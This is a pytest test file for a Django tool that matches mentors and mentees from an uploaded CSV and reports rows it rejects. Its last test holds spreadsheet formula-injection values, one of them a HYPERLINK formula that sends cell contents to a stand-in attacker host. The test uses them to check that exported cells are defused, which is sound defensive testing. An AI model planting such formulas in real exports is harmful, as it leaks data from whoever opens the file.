"""Spreadsheet mode: people from a file, pairs and reasons to files, bad files refused cell by cell."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from twofold.people.tabular import FileRejected
from twofold.programmes.spreadsheet import match_spreadsheet, unmatched_path_for

HEADER = "employee_id,manager_id,role,level,department,location,capacity,skills_teach,skills_learn,do_not_pair,email"


def write(path: Path, rows: list[str]) -> Path:
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


PEOPLE = [
    "ceo,,mentee,10,Exec,London,,,AI:0,,ceo@x",
    "vp-eng,ceo,mentee,8,Eng,London,,,AI:0;Video:1,,vp@x",
    "vp-ops,ceo,mentee,8,Ops,Nairobi,,,Video:1,,ops@x",
    "dev,vp-eng,mentor,2,Eng,London,,AI:4;Python:3,,,dev@x",
    "creator,vp-ops,mentor,1,Ops,Nairobi,,Video:4,,,c@x",
]


def test_pairs_and_reasons_are_written_beside_each_other(tmp_path):
    outcome = match_spreadsheet(
        write(tmp_path / "people.csv", PEOPLE), kind="reverse-mentoring", out=tmp_path / "p.csv"
    )
    assert outcome.unmatched_path == tmp_path / "p.unmatched.csv" == unmatched_path_for(tmp_path / "p.csv")
    pairs = read(outcome.pairs_path)
    assert {(row["mentor_id"], row["mentee_id"]) for row in pairs} == {("dev", "vp-ops"), ("creator", "vp-eng")}
    creator = next(row for row in pairs if row["mentor_id"] == "creator")
    # creator teaches Video at 4; vp-eng wants AI (room 1.0) and Video (room 0.8): 0.8 / 1.8 of it.
    assert float(creator["skills"]) == pytest.approx(4.0 * 0.8 / 1.8, abs=1e-3)
    assert float(creator["cross_department"]) == 1.0 and float(creator["cross_location"]) == 0.5
    assert float(creator["score"]) == pytest.approx(
        sum(float(creator[c]) for c in ("skills", "cross_department", "cross_location", "level_gap", "availability")),
        abs=1e-3,
    )
    (alone,) = read(outcome.unmatched_path)
    assert alone == {
        "employee_id": "ceo",
        "role": "mentee",
        "reason": "same_chain",
        "explanation": "no eligible mentor: every candidate is in the same reporting chain",
    }
    assert outcome.ignored_columns == ["email"]


def test_every_bad_cell_is_named_and_nothing_is_written(tmp_path):
    rows = [
        "a,,mentee,9,,,,,AI:0,zz,",
        "b,a,mentor,two,,,-1,AI:5;SQL,,,",
        "b,a,mentor,2,,,,,,,",
        "c,q,captain,2,,,,,,,",
    ]
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(write(tmp_path / "bad.csv", rows), kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [str(problem) for problem in rejected.value.problems] == [
        "row 2, column 'do_not_pair': 'zz' is not in the file",
        "row 3, column 'capacity': must be at least 0",
        "row 3, column 'level': 'two' is not a whole number",
        "row 3, column 'skills_teach': proficiency of 'AI' must be 0, 1, 2, 3 or 4, not '5'",
        "row 3, column 'skills_teach': 'SQL' needs a proficiency from 0 to 4, e.g. 'SQL:3'",
        "row 4, column 'employee_id': 'b' already appears on row 3",
        "row 5, column 'manager_id': manager 'q' is not in the file; add a row for them (role empty) so that "
        "reporting chains are known",
        "row 5, column 'role': 'captain' is not a reverse-mentoring role (use mentee or mentor, or leave empty)",
    ]
    assert not (tmp_path / "p.csv").exists()


def test_finding_6_a_manager_cycle_names_every_person_in_it_with_their_row(tmp_path):
    rows = [
        "ceo,,,10,,,,,,,",
        "a,c,mentee,9,,,,,,,",
        "dev,ceo,mentor,1,,,,,,,",
        "b,a,mentor,1,,,,,,,",
        "c,b,,7,,,,,,,",
        "self,self,mentee,8,,,,,,,",
    ]
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(write(tmp_path / "loop.csv", rows), kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [str(problem) for problem in rejected.value.problems] == [
        "row 3, column 'manager_id': these 3 people manage each other in a loop: 'a' (row 3) reports to "
        "'c' (row 6), 'c' (row 6) to 'b' (row 5), 'b' (row 5) to 'a' (row 3); fix the manager of one of them",
        "row 7, column 'manager_id': 'self' (row 7) is their own manager; fix their manager_id",
    ]
    assert not (tmp_path / "p.csv").exists()


def test_finding_6_a_short_row_is_refused_by_row_and_missing_columns_not_padded(tmp_path):
    rows = [*PEOPLE[:3], "dev,vp-eng,mentor,2,Eng", "creator,vp-ops,mentor,1,Ops,Nairobi,,Video:4,,,c@x"]
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(write(tmp_path / "short.csv", rows), kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [(problem.row, problem.column, problem.columns) for problem in rejected.value.problems] == [
        (5, None, ("location", "capacity", "skills_teach", "skills_learn", "do_not_pair", "email"))
    ]
    assert not (tmp_path / "p.csv").exists() and not (tmp_path / "p.unmatched.csv").exists()


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_short_row_in_a_semicolon_or_tab_separated_file_is_refused_by_its_row(tmp_path, separator):
    # The separator is the header's: one short row cannot make the file read as one column.
    rows = ["ceo,,mentee,10,Exec,Oslo,,,AI:0,,ceo@x", "dev,ceo,mentor,2,Eng", "c,ceo,mentor,1,Ops,Oslo,,Video:4,,,c@x"]
    path = tmp_path / "short.csv"
    path.write_text("\n".join(row.replace(",", separator) for row in [HEADER, *rows]) + "\n", encoding="utf-8")
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [(problem.row, problem.column, problem.columns) for problem in rejected.value.problems] == [
        (3, None, ("location", "capacity", "skills_teach", "skills_learn", "do_not_pair", "email"))
    ]
    assert not (tmp_path / "p.csv").exists()
    with pytest.raises(CommandError):
        call_command("match_csv", str(path), kind="reverse-mentoring", out=str(tmp_path / "p.csv"))
    assert not (tmp_path / "p.csv").exists()
    # With the row complete the same file matches; a quoted skill list keeps its semicolons.
    rows[1] = 'dev,ceo,mentor,2,Eng,Paris,,"AI:4;Python:3",,,dev@x'
    path.write_text("\n".join(row.replace(",", separator) for row in [HEADER, *rows]) + "\n", encoding="utf-8")
    outcome = match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert sorted(outcome.roster.problem.left.ids) == ["c", "dev"]
    assert outcome.roster.problem.left.n_skills == 3  # AI, Python, Video


def test_skill_lists_with_semicolons_in_a_comma_separated_file_keep_the_commas_as_separator(tmp_path):
    # Unquoted "AI:0;Video:1" cells hold more semicolons than the rows hold commas.
    rows = [*PEOPLE[:3], "dev,vp-eng,mentor,2,Eng,London,,AI:4;Python:3;Go:2;Rust:1;C:1;Java:1;SQL:3,,,dev@x"]
    outcome = match_spreadsheet(write(tmp_path / "people.csv", rows), kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert outcome.rows == 4 and outcome.ignored_columns == ["email"]


@pytest.mark.parametrize(
    ("manager_rows", "broken"),
    [
        (["e,boss,mentee,8,"], (4, "manager_id")),  # a manager who is not in the file
        (["e,f,mentee,8,", "f,e,,7,"], (4, "manager_id")),  # a loop of managers
    ],
)
@pytest.mark.parametrize(("slot_count", "too_many"), [(64, []), (65, [(None, None)])])
def test_a_broken_reporting_line_and_too_many_slots_are_named_in_one_run(
    tmp_path, manager_rows, broken, slot_count, too_many
):
    slots = ";".join(f"slot{number}" for number in range(slot_count))
    path = tmp_path / "people.csv"
    rows = ["employee_id,manager_id,role,level,availability", "ceo,,,10,", f"m,ceo,mentor,1,{slots}", *manager_rows]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    problems = rejected.value.problems
    assert [(problem.row, problem.column) for problem in problems] == [*too_many, broken]
    assert not (tmp_path / "p.csv").exists()


def test_too_many_slots_stay_a_problem_of_the_file_when_an_employee_id_is_availability(tmp_path):
    slots = ";".join(f"slot{number}" for number in range(65))
    path = tmp_path / "people.csv"
    rows = ["employee_id,manager_id,role,level,availability", "availability,,mentee,10,", f"m,,mentor,1,{slots}"]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [(problem.row, problem.column) for problem in rejected.value.problems] == [(None, None)]
    assert not (tmp_path / "p.csv").exists()


def test_a_loop_of_managers_a_level_out_of_range_and_too_many_slots_are_named_in_one_run(tmp_path):
    slots = ";".join(f"slot{number}" for number in range(65))
    path = tmp_path / "people.csv"
    rows = [
        "employee_id,manager_id,role,level,availability",
        "e,f,mentee,8,",
        "f,e,,7,",
        f"m,,mentor,100000000000000000000,{slots}",
    ]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [(problem.row, problem.column) for problem in rejected.value.problems] == [
        (None, None),  # 65 slots
        (2, "manager_id"),  # the loop, at its first person's row
        (4, None),  # the level
    ]
    assert not (tmp_path / "p.csv").exists()


def test_a_quoted_header_cell_with_a_line_break_does_not_decide_the_separator(tmp_path):
    # The header's first cell holds a line break: the separator is read from the whole header
    # record, not from its first line (which holds no semicolon).
    path = tmp_path / "people.csv"
    rows = ['"employee_id\n(HRIS)";manager_id;role;level', "ceo;;mentee;10", "dev;ceo;mentor;2"]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(path, kind="reverse-mentoring", out=tmp_path / "p.csv")
    # Four columns, the first not named employee_id: the only problem is that name.
    assert [(problem.row, problem.column) for problem in rejected.value.problems] == [(None, "employee_id")]


def test_a_level_beyond_any_organisation_is_refused_at_its_row_not_a_crash(tmp_path):
    rows = [*PEOPLE[:4], "creator,vp-ops,mentor,100000000000000000000,Ops,Nairobi,,Video:4,,,c@x"]
    with pytest.raises(FileRejected) as rejected:
        match_spreadsheet(write(tmp_path / "huge.csv", rows), kind="reverse-mentoring", out=tmp_path / "p.csv")
    assert [str(problem) for problem in rejected.value.problems] == [
        "row 6: level must be a whole number from -1,000,000,000 to 1,000,000,000, not 100000000000000000000"
    ]


def test_the_command_uses_a_policy_file_and_reports_its_mistakes(tmp_path, capsys):
    people = write(tmp_path / "people.csv", PEOPLE)
    policy = tmp_path / "policy.toml"
    policy.write_text("[rules]\nmin_level_gap = 8\n", encoding="utf-8")
    call_command("match_csv", str(people), kind="reverse-mentoring", policy=str(policy), out=str(tmp_path / "p.csv"))
    summary = capsys.readouterr().out
    # A gap of 8 leaves only the chief executive for the juniors, who is in their chain.
    assert "0 pairs" in summary and str(tmp_path / "p.unmatched.csv") in summary
    reasons = {row["employee_id"]: row["reason"] for row in read(tmp_path / "p.unmatched.csv")}
    assert reasons == {
        "ceo": "same_chain",
        "vp-eng": "level_gap",
        "vp-ops": "level_gap",
        "dev": "same_chain",
        "creator": "same_chain",
    }
    policy.write_text("[weights]\nskills = -1\n", encoding="utf-8")
    with pytest.raises(CommandError, match=r"weights\.skills: must be a number >= 0"):
        call_command(
            "match_csv", str(people), kind="reverse-mentoring", policy=str(policy), out=str(tmp_path / "p.csv")
        )


def test_sponsorship_from_a_file_reports_fairness(tmp_path, capsys):
    header = "employee_id,manager_id,role,level,department,high_potential,group,aspiration,capacity"
    rows = ["chief,,,10,Exec,no,,,", "s1,chief,sponsor,8,Eng,no,,,4"]
    rows += [f"w{i},chief,protege,4,Ops,yes,Woman,Ops," for i in range(3)]
    rows += [f"m{i},chief,protege,4,Ops,yes,Man,Eng," for i in range(3)]
    path = tmp_path / "sponsorship.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    call_command("match_csv", str(path), kind="sponsorship", out=str(tmp_path / "p.csv"))
    summary = capsys.readouterr().out
    assert "Fairness: every group has at least its share" in summary
    # Men aspire to the sponsor's domain; women must still have floor((0.5 - 0.05) x 4) = 1 seat.
    assert "Woman: 1 matched, minimum 1" in summary
    assert len(read(tmp_path / "p.csv")) == 4


def test_ids_and_reasons_that_look_like_formulas_are_neutralised(tmp_path):
    # Ids come from the uploaded file: a spreadsheet opening the output must not run them.
    people = [
        '"=HYPERLINK(""http://evil.example/?""&A1)",,mentee,8,Exec,London,,,AI:0,,',
        "@SUM(1),,mentor,2,Eng,Paris,,AI:4,,,",
        "-2+3,,mentor,2,Ops,Paris,,AI:4,,,",
        "+tab,,mentee,8,Ops,Rome,,,Cooking:0,,",
    ]
    outcome = match_spreadsheet(
        write(tmp_path / "people.csv", people), kind="reverse-mentoring", out=tmp_path / "p.csv"
    )
    pairs = read(outcome.pairs_path)
    unmatched = read(outcome.unmatched_path)
    written = [row["mentor_id"] for row in pairs] + [row["mentee_id"] for row in pairs]
    written += [row["employee_id"] for row in unmatched]
    assert sorted(written) == sorted(['\'=HYPERLINK("http://evil.example/?"&A1)', "'@SUM(1)", "'-2+3", "'+tab"])
    for row in pairs + unmatched:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)
    # Scores stay numbers.
    assert pairs and all(isinstance(float(row["score"]), float) for row in pairs)
